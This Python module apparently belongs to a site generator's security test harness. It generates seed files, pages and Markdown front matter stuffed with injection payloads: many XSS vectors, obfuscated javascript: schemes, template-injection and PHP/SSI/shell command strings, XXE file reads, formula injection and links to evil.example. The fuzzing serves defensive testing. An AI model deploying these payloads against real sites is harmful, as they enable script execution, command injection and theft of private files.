"""Texts that try to run as code: HTML, scripts, templates, Markdown, wherever a text is used."""

from __future__ import annotations

import json

from tools.attack.archive import Action, Archive, Write
from tools.attack.dice import Dice
from tools.attack.kinds import front_matter

SCRIPT = "window.PWNED=1"
HANDLERS = "onclick onload onerror onmouseover onfocus ontoggle onbegin onanimationstart onpointerover ONERROR oNcLiCk on\u017fcroll".split()
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " \x01javascript:", "\u00a0javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript&#58;", "java&Tab;script:", "javas&NewLine;cript:", "vbscript:", "data:text/html,", "data:text/html;base64,PHNjcmlwdD4", "data:image/svg+xml,<svg onload=", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "\\x6aavascript:", "%6Aavascript:", "javascript\u003a", "//evil.example/", "\\\\evil.example\\", "https:evil.example", "file:///etc/passwd", "blob:", "about:blank#")  # fmt: skip
TAGS = ("script", "img src=x", "svg", "iframe src=x", "body", "details open", "video src=x", "audio src=x", "input autofocus", "object data=x", "embed src=x", "math", "form action=x", "isindex", "base href=//evil.example/", "link rel=stylesheet href=//evil.example/x.css", "meta http-equiv=refresh content='0;url=//evil.example/'", "style", "template", "noscript", "button formaction=x", "a", "p", "table background=//evil.example/x", "marquee", "select", "textarea", "title", "xmp", "plaintext", "frameset", "source srcset='//evil.example/x 2x'", "track src=x", "picture", "portal src=x", "dialog open", "slot", "x-custom", "animate attributeName=href values=javascript:1", "use href=data:x", "image href=//evil.example/x", "foreignObject", "annotation-xml encoding=text/html", "mglyph", "malignmark", "noembed", "noframes", "a:b", "svg:script")  # fmt: skip
WHOLE = (
    "<script>{s}</script>", "<scr<script>ipt>{s}</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>{s}</script/y>",
    "<svg><script>{s}</script></svg>", "<svg/onload={s}>", "<svg><animate onbegin={s} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{s}><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={s}&gt;\">", "<math><mi//xlink:href=\"data:x,{s}\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={s} src>\">", "<svg></p><style><a id=\"</style><img src=1 onerror={s}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={s}>\">", "<textarea><img title=\"</textarea><img src onerror={s}>\">", "<title><a title=\"</title><img src onerror={s}>\">",
    "<template><img src onerror={s}></template>", "<!--><img src onerror={s}>-->", "<!--!><img src onerror={s}>--!>", "<![CDATA[><img src onerror={s}>]]>", "<?x ><img src onerror={s}>?>", "<img src=`x` onerror=`{s}`>",
    "<img \"\"\"><script>{s}</script>\">", "<a href=\"x\" \" onmouseover=\"{s}\">y</a>", "</script><script>{s}</script>", "</title><script>{s}</script>", "\"><script>{s}</script>", "'><img src onerror={s}>", "--></style></textarea><svg onload={s}>",
    "<style>@import '//evil.example/x.css'; p {{ background: url(//evil.example/x) }}</style>", "<p style=\"background:url(//evil.example/x)\">x</p>", "<div style=\"width:expression({s})\">", "<xss style=\"behavior:url(x.htc)\">",
    "<a href=\"javascript:{s}\">x</a>", "<a href=' javascript:{s}'>x</a>", "<iframe srcdoc=\"<script>{s}</script>\">", "<object data=\"data:text/html,<script>{s}</script>\">", "<embed src=\"data:text/html,x\">", "<img srcset=\"//evil.example/x 1x\">", "<video poster=//evil.example/x>",
    "<a target=_blank ping=//evil.example/ href=x>y</a>", "<input type=image src onerror={s}>", "<isindex prompt=x action=javascript:{s} type=submit>", "<x contenteditable onblur={s} tabindex=1 id=x>", "<b/onmouseover={s}>x</b>", "<body/onload={s}>",
    "{{{{ cycler.__init__.__globals__.os.popen('touch %OUTSIDE%/ran').read() }}}}", "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}", "{{% include '%OUTSIDE%/private/key.txt' %}}", "{{% set x = namespace.__init__.__globals__ %}}{{{{ x }}}}", "{{{{ site.__class__ }}}}", "{{# comment", "{{% raw %}}", "{{{{ 7*191 }}}}", "{{% for x in range(999999999) %}}x{{% endfor %}}", "${{7*191}}", "#{{7*191}}", "<%= 7*191 %>",
    "<?php system('touch %OUTSIDE%/ran'); ?>", "<!--#exec cmd=\"touch %OUTSIDE%/ran\" -->", "<!--#include file=\"%OUTSIDE%/private/key.txt\"-->", "$(touch %OUTSIDE%/ran)", "`touch %OUTSIDE%/ran`", "; touch %OUTSIDE%/ran", "=cmd|' /C calc'!A0", "<!ENTITY x SYSTEM \"file://%OUTSIDE%/private/key.txt\">&x;",
    "]]></content><script xmlns='http://www.w3.org/1999/xhtml'>{s}</script>", "&lt;script&gt;{s}&lt;/script&gt;", "&amp;lt;script&amp;gt;", "\u003cscript\u003e{s}\u003c/script\u003e", "＜script＞{s}＜/script＞", "<\x00script>{s}</script>", "<scr\x00ipt>{s}</scr\x00ipt>", "<img\x0csrc\x0conerror={s}>", "<a href=\"\x01javascript:{s}\">x</a>", "\x1b]0;owned\x07\x1b[2J",
    "<a id=documentElement><a id=body name=cookie>", "<form id=x><input name=attributes></form>", "<img name=currentScript>", "<p id=p1 id=main-content>clash</p>", "<p id='constructor'>x</p>",
)  # fmt: skip
MARKDOWN = (
    "[x]({u})", "![x]({u})", "[x]: {u}\n\n[x]", "[x](<{u}>)", "<{u}>", "[x](y \"onclick={s}\")", "[x]({u} 'a')", "![x](y){{: onerror=\"{s}\"}}", "text {{: onclick=\"{s}\" style=\"x\" id=main-content}}", "# head {{: onmouseover={s}}}", "{{: .x #y z=w}}", "x\n{{: href=\"{u}\" }}",
    "*[HTML]: <img src onerror={s}>\n\nHTML HTML", "x[^1]\n\n[^1]: <script>{s}</script> [y]({u})", "[^\"><img src onerror={s}>]\n\n[^\"><img src onerror={s}>]: y", "x[^a]\n\n[^a]: [^a]", "Term\n: <img src onerror={s}>", "| a | b |\n|---|---|\n| <img src onerror={s}> | [x]({u}) |", "```{{ .x onclick={s} }}\ncode\n```", "~~~ \"><script>{s}</script>\nx\n~~~", "`<script>{s}</script>`",
    "<div markdown=\"1\">\n*x* <img src onerror={s}>\n</div>", "<div markdown=1 onclick={s}>\n\n[x]({u})\n\n</div>", "    <script>{s}</script>", "> <script>{s}</script>\n> [x]({u})", "1. <svg onload={s}>\n2. [x]({u})", "\\<script>{s}\\</script>", "[\\]({u})", "[x](\\javascript:{s})", "[x][y\n\n[y]: {u}", "&lt;script&gt;", "\x02klzzwxh:0000\x03", "\x02wzxhzdk:0\x03", "\x02106\x03avascript:{s}", "[x](java\x02script:{s})", "![{u}][{u}]\n\n[{u}]: {u}",
    "[TOC]", "!!! note \"<img src onerror={s}>\"\n    x", "<p markdown=\"span\" id='p1'>*x*", "[" * 200, "![" * 200, "*" * 300 + "x", "> " * 150 + "x", "- " * 80 + "x", "`" * 333, "<b>" * 300, "\\" * 301, "[a](" * 200, "&#" * 99, "[x]\n(y)",
)  # fmt: skip


def _attack(dice: Dice) -> str:
    match dice.randrange(4):
        case 0:
            return f"<{dice.choice(TAGS)} {dice.choice(HANDLERS)}{dice.choice(('=', ' = ', chr(12) + '='))}{SCRIPT}{dice.choice(('>', '', '//', '/>'))}"
        case 1:
            attribute = dice.choice(
                "href src action data xlink:href formaction poster cite background longdesc srcset".split()
            )
            tag = dice.choice("a img iframe form object svg:a video blockquote body q area".split())
            return f'<{tag} {attribute}="{dice.choice(SCHEMES)}{SCRIPT}">x</{tag}>'
        case 2:
            return dice.choice(MARKDOWN).format(s=SCRIPT, u=f"{dice.choice(SCHEMES)}{SCRIPT}")
        case _:
            return dice.choice(WHOLE).format(s=SCRIPT)


def _attacks(dice: Dice) -> str:
    return dice.choice(("\n\n", " ", "", "\n")).join(dice.few(lambda: _attack(dice), 8))


def injections(dice: Dice) -> Archive:
    """Return seeds that try to run as code from text, title, names, metadata and file name."""
    files: list[Action] = dice.few(lambda: Write(f"seeds/{dice.marker()}.txt", _text(dice)), 3)
    files += dice.few(lambda: Write(f"seeds/{_file_name(dice)}.html", _page(dice)), 3)
    formats = dice.choice(
        ("", "formats: [redirects, htaccess, nginx]\n", "base_url: https://archive.example/a/\n")
    )
    return Archive((tuple(files),), settings=formats, is_warm=dice.often(0.2))


def _text(dice: Dice) -> bytes:
    one_line = " ".join(_attack(dice).split("\n"))
    title = dice.choice((f"The bridge {one_line}", one_line, dice.words(3)))
    byline = dice.choice((f"By {one_line}", "By Ada Pike", f"By Ada {one_line} Pike"))
    text = f"{title}\n\n3 May 2001\n\n{byline}\n\n{dice.sentence()}\n\n{_attacks(dice)}\n\n{dice.sentence()}\n\nSee also:\n\n{one_line}\n"
    return text.encode("utf-8", "replace")


def _page(dice: Dice) -> bytes:
    attack = [_attack(dice) for _ in range(6)]
    escaped = [
        one.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;") for one in attack
    ]
    text = f"""<!doctype html><html lang="{escaped[0][:30]}"><head><title>{dice.choice((attack, escaped))[1]}</title>
<meta name=author content="{escaped[2]}"><meta property="og:site_name" content="{escaped[3]}"><meta name=date content="{escaped[4]}">
<link rel=canonical href="https://example.org/{escaped[5]}"></head><body><h1>{dice.words(3)} {escaped[0]}</h1>
<p>{dice.sentence()}</p>{_attacks(dice)}<p>{escaped[1]}</p><img alt="{escaped[2]}" src=x><p>{dice.sentence()}</p>"""
    return text.encode("utf-8", "replace")


def _file_name(dice: Dice) -> str:
    name = dice.choice(("", " ".join(_attack(dice).split("\n"))))
    return (
        name.replace("/", "∕").replace("\0", "").encode()[:120].decode(errors="ignore")
        + dice.marker()
    ).lstrip(".")


def markdown(dice: Dice) -> Archive:
    """Return content files, free pages and term files with raw HTML and hostile Markdown."""
    files: list[Action] = []
    for folder in dice.some(
        ("content", "content/pages", "content/topics", "content/2001/05", "content/people")
    ):
        for _ in range(dice.randint(1, 2)):
            values = {"title": _attack(dice)} | {
                key: dice.choice((_attack(dice), [_attack(dice)]))
                for key in dice.some(front_matter.KEYS)
                if key not in ("draft", "status", "hidden", "published")
            }
            head = "".join(
                f"{json.dumps(key)}: {json.dumps(value)}\n" for key, value in values.items()
            )
            body = f"{dice.sentence()}\n\n{_attacks(dice)}\n\n{dice.sentence()}\n"
            files.append(
                Write(
                    f"{folder}/{dice.marker()}.md",
                    f"---\n{head}---\n{body}".encode("utf-8", "replace"),
                )
            )
    return Archive((tuple(files),), is_warm=dice.often(0.2))
